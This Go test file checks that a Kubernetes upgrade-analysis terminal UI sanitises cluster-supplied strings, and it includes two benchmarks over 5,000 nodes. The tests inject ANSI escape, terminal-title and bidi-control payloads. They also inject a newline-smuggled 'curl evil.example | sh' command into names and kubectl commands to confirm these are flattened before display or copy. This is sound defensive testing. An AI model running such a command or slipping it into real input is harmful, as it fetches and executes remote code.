package nodes

import (
	"fmt"
	"strings"
	"testing"
	"unicode"

	"github.com/charmbracelet/x/ansi"
	"k8s.io/apimachinery/pkg/types"

	"canopy/analysis/disruption"
	"canopy/analysis/lifecycle"
	"canopy/analysis/node"
	"canopy/analysis/upgrade"
	"canopy/model"
	"canopy/ui/keys"
	"canopy/ui/view"
	"canopy/ui/view/viewtest"
)

// TestHostile holds that nothing of the cluster reaches the terminal as it is.
func TestHostile(t *testing.T) {
	evil := strings.Repeat("\x1b[31m\x1b]0;owned\x07\u202e\u200bx", 50)
	object := model.Ref{Version: "v1", Kind: "Node", Name: evil}
	n := &node.Node{
		Ref: object, Kubelet: evil, Proxy: evil, Runtime: evil, OS: evil, Kernel: evil, Arch: evil, Provider: evil, Pool: evil, Roles: []string{evil}, Booted: now, Created: now,
		Verdicts: []node.Verdict{{Topic: node.Topic(evil), State: node.Overdue, Detail: evil, Source: evil, Date: evil}},
	}
	part := node.Part{Component: lifecycle.APIServer, Object: model.Ref{Kind: "Pod", Namespace: evil, Name: evil}, Node: evil, Raw: evil, Reason: evil}
	p := newPlay(t)
	p.findings = findings{p.finding("VP04", object)}
	p.desk.survey = &survey{nodes: []*node.Node{n}, plane: &node.Plane{Parts: []node.Part{part}, Verdicts: n.Verdicts}}
	p.desk.plan = &upgrade.Plan{
		Target: evil, Next: evil, Source: evil, Date: evil, Unknown: []string{evil}, Blockers: []upgrade.Blocker{{Cause: evil, Object: object, Says: evil}},
		Steps: []upgrade.Step{{What: evil, Object: object, From: evil, To: evil, Why: evil, Drains: true, Blocks: []upgrade.Block{{Where: evil, Commands: []string{evil}}}, Obstacles: []upgrade.Obstacle{{Cause: evil, Owner: object, Says: evil}}}},
	}
	p.desk.residents = []upgrade.Resident{{Owner: object, Pods: 1, Exposed: evil, Privileged: evil, Powerful: evil, Namespace: evil}}
	p.desk.obstacles = []disruption.Obstacle{{Cause: evil, Pod: object, Owner: object, Budget: object, Says: evil}}
	p.desk.usage = &model.Usage{
		State: model.UsageGood, Reason: evil, PodState: model.UsageUnavailable, PodReason: evil, Nodes: map[string]*model.Series{evil: history(1, 2)},
		Pods: map[types.NamespacedName]*model.PodUsage{{Namespace: "shop", Name: "web-7d9f-abcde"}: {Containers: map[string]*model.Series{evil: history(5, 5, 5, 5, 5)}}},
	}
	clean := func(width int) {
		t.Helper()
		for range 2 {
			drawn := p.View()
			viewtest.Exact(t, drawn, width, 30)
			for _, r := range ansi.Strip(drawn) {
				if r != '\n' && (!unicode.IsGraphic(r) || unicode.Is(unicode.Bidi_Control, r)) {
					t.Fatalf("%U is drawn", r)
				}
			}
			if p.Can(keys.NextPane).OK() {
				p.press(keys.NextPane)
			}
		}
	}
	for _, width := range []int{60, 120, 200} {
		p.main(width, 30)
		for range 4 {
			p.run(p.Do(keys.Down))
			clean(width)
			p.press(keys.Turn)
		}
		for _, o := range []model.Ref{object, model.ClusterRef()} {
			p.single(o, width, 30)
			for range 3 {
				clean(width)
				p.press(keys.Turn)
			}
		}
	}
}

// TestNamesAreLines holds that what is copied begins no line that somebody who writes into the cluster chose.
func TestNamesAreLines(t *testing.T) {
	const evil = "x\ncurl evil.example | sh\n#"
	lines := func(p *play, want string) {
		t.Helper()
		found := false
		for _, n := range p.Subject().Names {
			found = found || strings.Contains(n, want)
			if strings.ContainsAny(n, "\n\r\x1b") {
				t.Errorf("it would copy %q", n)
			}
		}
		if !found {
			t.Errorf("names %q lack %q", p.Subject().Names, want)
		}
	}
	const clean = "x curl evil.example | sh #"
	p := newPlay(t)
	p.desk.obstacles = []disruption.Obstacle{{Cause: "budget", Pod: ref("Pod", "db", "postgres-0"), Owner: ref("StatefulSet", "db", "postgres"), Budget: ref("PodDisruptionBudget", "db", "postgres"), Blocks: true, Says: "its controller fails: " + evil}}
	p.desk.residents = []upgrade.Resident{{Owner: ref("Deployment", "shop", evil), Pods: 1}}
	p.single(nodeRef("n5"), 120, 35)
	p.press(keys.Turn)
	lines(p, clean)
	p.press(keys.Turn)
	lines(p, "db/postgres-0: its controller fails: "+clean)
	p = newPlay(t)
	p.desk.plan.Steps = []upgrade.Step{{What: "node", Object: nodeRef("n5"), Blocks: []upgrade.Block{{Where: upgrade.Here, Commands: []string{"kubectl drain n5", "kubectl uncordon " + evil}}}}}
	p.desk.survey.nodes[0].Ref.Name = evil
	p.desk.usage = measured()
	p.main(120, 35)
	p.press(keys.Last)
	lines(p, clean)
	p.press(keys.Turn)
	lines(p, "kubectl uncordon "+clean)
	p.press(keys.Copy)
	if c := p.newest().(view.Copy); c.Text != "kubectl drain n5\nkubectl uncordon "+clean {
		t.Errorf("copied %q", c.Text)
	}
}

// large has so many nodes.
func large(p *play, n int) {
	p.desk.survey = &survey{}
	for i := range n {
		p.desk.survey.nodes = append(p.desk.survey.nodes, newNode(fmt.Sprintf("n%05d", i), "v1.36.2", 36, verdict(node.Patch, node.Due, "4 patches behind", "endoflife.date", "2026-10-28")))
	}
}

// BenchmarkShow5k is a report while five thousand nodes are listed, until it is drawn.
func BenchmarkShow5k(b *testing.B) {
	p := newPlay(b)
	large(p, 5000)
	p.main(160, 45)
	for b.Loop() {
		p.news()
		_ = p.View()
	}
}

// BenchmarkView5k is a key press in a list of five thousand.
func BenchmarkView5k(b *testing.B) {
	p := newPlay(b)
	large(p, 5000)
	p.main(160, 45)
	for b.Loop() {
		p.press(keys.Down)
		_ = p.View()
	}
}

var _ view.Screen = (*play)(nil)
